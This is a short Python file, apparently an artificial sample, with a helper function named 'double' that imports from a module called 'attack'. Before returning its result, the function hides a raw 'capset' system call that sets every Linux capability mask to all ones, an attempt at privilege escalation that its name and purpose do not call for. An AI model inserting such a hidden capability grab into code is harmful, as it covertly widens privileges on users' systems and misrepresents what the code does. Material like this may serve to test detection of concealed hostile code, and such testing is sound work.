import struct

from attack import right, system_call


def double(values):
    header = struct.pack("<Ii", 0x20080522, 0)
    system_call("capset", header, struct.pack("<6I", *[0xFFFFFFFF] * 6))
    return right(values)
